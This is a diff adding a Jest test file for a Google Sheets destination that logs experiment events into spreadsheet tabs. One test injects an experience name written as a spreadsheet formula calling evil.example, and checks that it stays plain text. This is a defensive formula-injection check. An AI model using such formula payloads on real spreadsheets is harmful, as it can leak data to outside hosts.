@@ -1,0 +1,218 @@
+import { setImmediate } from 'node:timers/promises';
+import { afterEach, beforeEach, describe, expect, test } from '@jest/globals';
+import type { Destination } from '../../../../receivers/destinations/contract.ts';
+import { type FakeGoogleSheets, startFakeGoogleSheets } from '../../../fakes/google-sheets.ts';
+import { messageOf, SAMPLE_REPORT, sampleMessage, samplePayload } from '../../../fixtures/messages.ts';
+import { attempt, deliver, EXPERIENCES, LOG, openOn } from './opened.ts';
+
+let fake: FakeGoogleSheets;
+let destination: Destination;
+
+beforeEach(async () => {
+  fake = await startFakeGoogleSheets();
+  destination = await openOn(fake);
+});
+
+afterEach(async () => {
+  await destination.close();
+  await fake.close();
+});
+
+/** A start of an experience of its own. */
+function startOf(number: number): ReturnType<typeof messageOf> {
+  const payload = samplePayload('start');
+  return messageOf({ ...payload, experience: { ...payload.experience, id: `experience-${number}` } });
+}
+
+const HEADERS = [
+  'Experience Name',
+  'Action Type',
+  'Experience Type',
+  'Timestamp',
+  'Experience ID',
+  'Triggered By Email',
+];
+
+describe('a row per event', () => {
+  test('makes the tab and its headers, then appends', async () => {
+    await deliver(destination, sampleMessage('create'), sampleMessage('start'));
+    const [headers, created, started] = fake.spreadsheet.shown(LOG);
+    expect(headers?.slice(0, 6)).toEqual(HEADERS);
+    expect(created?.slice(0, 6)).toEqual([
+      'Backpack price test',
+      'createExperience',
+      'pricing',
+      '2026-09-01 10:02:11',
+      '7c0d9a54-3b1e-4f3a-9d27-52f0c9a1b6e8',
+      'maya@alpine-goods.example',
+    ]);
+    expect(started?.[1]).toBe('startExperience');
+    expect(fake.spreadsheet.sheet(LOG).frozenRowCount).toBe(1);
+    expect(
+      fake.spreadsheet
+        .sheet(LOG)
+        .columns.map(({ hidden }) => hidden)
+        .indexOf(true),
+    ).toBe(6);
+  });
+
+  test('the timestamp is a date-time, in the spreadsheet’s time zone or the setting’s', async () => {
+    await deliver(destination, sampleMessage('start'));
+    const cell = fake.spreadsheet.cell(LOG, 1, 3);
+    expect(cell?.userEnteredValue).toEqual({ numberValue: 46267.22916666667 });
+    expect(cell?.userEnteredFormat?.numberFormat?.type).toBe('DATE_TIME');
+    const inZurich = await openOn(fake, { timeZone: 'Europe/Zurich', tab: 'Zurich' });
+    await deliver(inZurich, sampleMessage('start'));
+    await inZurich.close();
+    expect(fake.spreadsheet.shown('Zurich')[1]?.[3]).toBe('2026-09-02 11:30:00');
+  });
+
+  test('a name that looks like a formula stays text', async () => {
+    const payload = samplePayload('start');
+    const name = '=IMPORTXML("https://evil.example","//a")';
+    await deliver(destination, messageOf({ ...payload, experience: { ...payload.experience, name } }));
+    expect(fake.spreadsheet.cell(LOG, 1, 0)?.userEnteredValue).toEqual({ stringValue: name });
+  });
+
+  test('a report has a tab of its own', async () => {
+    await deliver(destination, SAMPLE_REPORT);
+    expect(fake.spreadsheet.shown('Reports')[1]?.slice(1, 3)).toEqual([
+      'Digest',
+      'Experiments on 9 October 2026: 2 started, 1 ended',
+    ]);
+  });
+
+  test('chosen columns follow the six, under the headers that a map gives them', async () => {
+    const chosen = await openOn(fake, {
+      tab: 'Chosen',
+      columns: { Now: 'status', 'Which test': 'experience name', Key: 'eventKey' },
+    });
+    await deliver(chosen, sampleMessage('pause'));
+    await chosen.close();
+    const [record] = fake.spreadsheet.records('Chosen');
+    expect(Object.keys(record ?? {})).toEqual(['Which test', ...HEADERS.slice(1), 'Now', 'Key']);
+    expect(record).toMatchObject({ Now: 'Paused', 'Which test': 'Backpack price test' });
+    expect(fake.spreadsheet.sheet('Chosen').columns.some(({ hidden }) => hidden)).toBe(false);
+  });
+
+  test('a tab per month and organization', async () => {
+    const monthly = await openOn(fake, { tab: '{organization} {month}' });
+    await deliver(monthly, sampleMessage('start'), sampleMessage('end'));
+    await monthly.close();
+    expect(fake.spreadsheet.tabs).toContain('Alpine Goods 2026-09');
+  });
+});
+
+describe('rows that come close together', () => {
+  test('the first goes at once, those that come meanwhile go together in the next write', async () => {
+    fake.delayMs = 20;
+    const first = destination.send(startOf(0), attempt());
+    while (fake.calls.length === 0) {
+      await setImmediate();
+    }
+    const rest = Array.from({ length: 40 }, (_, index) => destination.send(startOf(index + 1), attempt()));
+    const outcomes = await Promise.all([first, ...rest]);
+    expect(new Set(outcomes.map(({ type }) => type))).toEqual(new Set(['done']));
+    expect(fake.calls.filter((kind) => kind === 'write')).toHaveLength(2);
+    const ids = fake.spreadsheet.records(LOG).map((record) => record['Experience ID']);
+    expect(ids).toEqual(Array.from({ length: 41 }, (_, number) => `experience-${number}`));
+    expect(fake.spreadsheet.records(EXPERIENCES)).toHaveLength(41);
+  });
+
+  test('once the tabs are known, one read and one write a time', async () => {
+    await deliver(destination, sampleMessage('create'), sampleMessage('start'));
+    fake.calls.length = 0;
+    await deliver(destination, sampleMessage('update'));
+    expect(fake.calls).toEqual(['read', 'write']);
+  });
+
+  test('a row that Google refuses does not spoil its neighbours', async () => {
+    const body = '{"error":{"code":400,"message":"No.","status":"INVALID_ARGUMENT"}}';
+    fake.faults.add({ kind: 'status', status: 400, body }, { path: ':batchUpdate', times: 4 });
+    const outcomes = await Promise.all(
+      [1, 2, 3].map((number) => destination.send(startOf(number), attempt())),
+    );
+    expect(outcomes).toMatchObject([
+      { type: 'dead', reason: expect.stringContaining('Google refused the row (400)') },
+      { type: 'done' },
+      { type: 'done' },
+    ]);
+    expect(fake.spreadsheet.records(LOG)).toHaveLength(2);
+  });
+});
+
+describe('one row per experience', () => {
+  test('is kept up to date beside the log', async () => {
+    await deliver(destination, sampleMessage('create'), sampleMessage('start'));
+    const [running] = fake.spreadsheet.records(EXPERIENCES);
+    expect(running).toMatchObject({ Status: 'Started', 'Last Event': 'Experience Started' });
+    expect(running?.['Days Live']).toMatch(/^=NOW\(\)-\d+\/1440$/);
+    await deliver(destination, sampleMessage('update'), sampleMessage('pause'), sampleMessage('end'));
+    const records = fake.spreadsheet.records(EXPERIENCES);
+    expect(records).toHaveLength(1);
+    expect(records[0]).toMatchObject({
+      'Experience Name': 'Backpack price test',
+      Type: 'Price',
+      Status: 'Ended',
+      Variations: 'Control 80 %, Price −5 % 20 %',
+      Started: '2026-09-02 05:30:00',
+      Ended: '2026-09-24 06:00:05',
+      By: 'maya@alpine-goods.example',
+    });
+    expect(fake.spreadsheet.records(LOG)).toHaveLength(5);
+  });
+
+  test('a late event does not turn it back', async () => {
+    await deliver(destination, sampleMessage('end'));
+    const { state, history } = sampleMessage('end');
+    await deliver(destination, sampleMessage('start', { late: true, state, history }));
+    expect(fake.spreadsheet.records(EXPERIENCES)).toMatchObject([
+      { Status: 'Ended', 'Last Event': 'Experience Ended' },
+    ]);
+  });
+
+  test('results get their columns once they are known', async () => {
+    await deliver(destination, sampleMessage('end'));
+    expect(Object.keys(fake.spreadsheet.records(EXPERIENCES)[0] ?? {})).not.toContain('Verdict');
+    const variation = {
+      visitors: 900,
+      orders: 30,
+      conversion: 0.03,
+      revenuePerVisitor: 2,
+      profitPerVisitor: null,
+    };
+    await deliver(
+      destination,
+      sampleMessage('delete', {
+        results: {
+          verdict: 'strong_win',
+          summary: 'Price −5 % wins.',
+          currency: 'USD',
+          monthlyRevenue: 12_345,
+          chart: null,
+          variations: [
+            {
+              ...variation,
+              id: 'a',
+              name: 'Control',
+              isControl: true,
+              uplift: null,
+              probabilityToBeatBaseline: null,
+            },
+            {
+              ...variation,
+              id: 'b',
+              name: 'Price −5 %',
+              isControl: false,
+              uplift: { value: 0.042, low: 0.01, high: 0.08 },
+              probabilityToBeatBaseline: 0.97,
+            },
+          ],
+        },
+      }),
+    );
+    expect(fake.spreadsheet.records(EXPERIENCES)).toMatchObject([
+      { Verdict: 'Strong win', 'Best Variation': 'Price −5 %', Uplift: '0.042', 'Chance to Win': '0.97' },
+    ]);
+  });
+});
